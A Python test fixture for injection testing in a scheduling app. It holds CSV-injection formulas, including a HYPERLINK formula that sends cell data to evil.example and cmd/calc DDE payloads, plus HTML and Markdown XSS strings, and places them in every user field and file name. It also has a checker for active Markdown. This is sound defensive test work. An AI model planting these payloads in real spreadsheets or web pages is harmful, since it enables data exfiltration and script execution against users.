"""Hostile text for the injection tests: strings that would be a formula in a spreadsheet,
markup in HTML or a link, image or HTML in Markdown if any output took them as written,
a scenario that carries them in every field a user writes, and a check of Markdown
bodies for anything active."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd

from scenarios.library import example_data

#: Spreadsheet formulas (OWASP "CSV injection": = + - @, tab, CR, leading spaces).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "  =1+1 after spaces",
    "#N/A",
]
#: HTML and Markdown that would run, fetch or link if rendered.
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "![x](https://evil.example/x.png)",
    "[click](https://evil.example/phish)",
    "<https://evil.example/auto>",
    "see https://evil.example/bare or www.evil.example or me@evil.example",
    "$\\href{https://evil.example}{x}$",
    ":red[red] **bold** _em_ `code` <b>b</b> &amp; |a|b|",
]

#: One hostile text per field a user writes, by what the reports and the app call it.
FIELDS = {
    "name": FORMULAS[0] + " " + MARKUP[0],
    "description": FORMULAS[1] + " " + MARKUP[4] + "\n" + MARKUP[5],
    "site": FORMULAS[3] + " " + MARKUP[1],
    "pod 1": "=1+2 " + MARKUP[2],
    "pod 2": "-3+4 " + MARKUP[4],
    "pod 3": "@pod " + MARKUP[6],
    "assumption 1": FORMULAS[2] + " " + MARKUP[7],
    "assumption 2": FORMULAS[4] + " " + MARKUP[3],
    "assumption 3": FORMULAS[6] + " " + MARKUP[8],
    "assumption 4": FORMULAS[7],
    "price note": "@price " + MARKUP[5],
    "target": FORMULAS[5] + " " + MARKUP[9],
    "heat note": "=heat " + MARKUP[0],
    "job 1": '=job"1 ' + MARKUP[0],
    "job 2": "+job " + MARKUP[4],
    "job 3": "@job " + MARKUP[1],
    "carbon file": "@carbon " + MARKUP[1] + ".csv",
    "jobs file": "=jobs+cmd|x.csv",
}


def jobs_csv(ids: list[str]) -> str:
    """A jobs CSV of short jobs on 2023-07-10 (Shanghai), one per id."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["job_id", "release", "deadline", "duration_h", "power_kw", "preemptible"])
    for i, job in enumerate(ids):
        writer.writerow(
            [
                job,
                "2023-07-10T00:00+08:00",
                "2023-07-11T00:00+08:00",
                2 + i,
                60,
                "true" if i % 2 else "false",
            ]
        )
    return buf.getvalue()


def carbon_csv(hours: int = 48) -> str:
    """Hourly carbon intensity covering the default scenario's first ``hours`` hours."""
    stamps = pd.date_range("2023-07-09T16:00Z", periods=hours, freq="h")
    values = [450.0 + 10 * (i % 24) for i in range(hours)]
    frame = pd.DataFrame({"timestamp": stamps.strftime("%Y-%m-%dT%H:%M:%SZ"), "value": values})
    return frame.to_csv(index=False)


def hostile_scenario(folder: Path | None = None, hours: int = 48) -> dict:
    """The built-in default scenario (two days) with hostile text in every field a user
    writes: names, description, site, pods, assumptions, notes, the target's label.

    With ``folder``, the carbon intensity and the jobs come from files written there,
    with hostile file names and job ids; without, the jobs come from the generator.
    """
    data = example_data("default")
    data["name"] = FIELDS["name"]
    data["description"] = FIELDS["description"]
    data["site"]["name"] = FIELDS["site"]
    for pod, key in zip(data["pods"], ("pod 1", "pod 2", "pod 3"), strict=True):
        pod["name"] = FIELDS[key]
    data["assumptions"] = [FIELDS[f"assumption {i}"] for i in range(1, 5)]
    data["grid"]["price"] = {"source": "flat", "flat_per_kwh": 0.9, "note": FIELDS["price note"]}
    data["heat_reuse"] = {"liquid_share": 0.3, "note": FIELDS["heat note"]}
    data["targets"]["label"] = FIELDS["target"]
    data["horizon"]["hours"] = hours
    data["workload"]["generator"].update(count=4, slack_h=[6, 24], duration_h=[2, 6])
    if folder is not None:
        carbon = folder / FIELDS["carbon file"]
        carbon.write_text(carbon_csv(hours), encoding="utf-8")
        jobs = folder / FIELDS["jobs file"]
        jobs.write_text(
            jobs_csv([FIELDS["job 1"], FIELDS["job 2"], FIELDS["job 3"]]), encoding="utf-8"
        )
        data["grid"]["carbon"] = {"source": "file", "file": str(carbon)}
        data["workload"] = {"jobs": str(jobs)}
    return data


# --------------------------------------------------------------------------- Markdown

_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")  # CommonMark: any ASCII punctuation
#: What GitHub-flavoured Markdown links in plain text (Streamlit's remark-gfm: after the
#: escapes are read).
_LITERAL_LINK = re.compile(r"(?i)(https?://|www\.)[-.\w]+|[-.\w+]+@[-\w]+(\.[-\w]+)+")


def _unescaped(body: str, chars: str) -> list[int]:
    """Positions of ``chars`` in ``body`` not written as a backslash escape."""
    out, i = [], 0
    while i < len(body):
        if body[i] == "\\" and i + 1 < len(body) and _ESCAPED.match(body, i):
            i += 2
            continue
        if body[i] in chars:
            out.append(i)
        i += 1
    return out


def active_markdown(body: str) -> list[str]:
    """What in a Markdown body Streamlit would render as more than text: a link or image
    (``](``, ``][`` or a ``]:`` definition, the ``]`` unescaped), raw HTML or an autolink (``<`` and a letter, ``/``,
    ``!`` or ``?``), LaTeX (``$``), or a link GitHub-flavoured Markdown makes of plain
    text (``https://``, ``www.``, an e-mail address). Empty when the body is inert."""
    found = []
    for i in _unescaped(body, "]"):  # "[text](url)", "[text][ref]", "[ref]: url"
        if body[i + 1 : i + 2] in ("(", "[", ":"):
            found.append(f"link or image at {i}: {body[max(0, i - 20) : i + 30]!r}")
    for i in _unescaped(body, "<"):
        if re.match(r"[A-Za-z/!?]", body[i + 1 : i + 2]):
            found.append(f"HTML or autolink at {i}: {body[i : i + 30]!r}")
    for i in _unescaped(body, "$"):
        found.append(f"LaTeX at {i}: {body[max(0, i - 10) : i + 20]!r}")
    text = _ESCAPED.sub(r"\1", body)  # as the renderer reads it, escapes resolved
    for match in _LITERAL_LINK.finditer(text):
        found.append(f"literal link: {match[0]!r}")
    return found
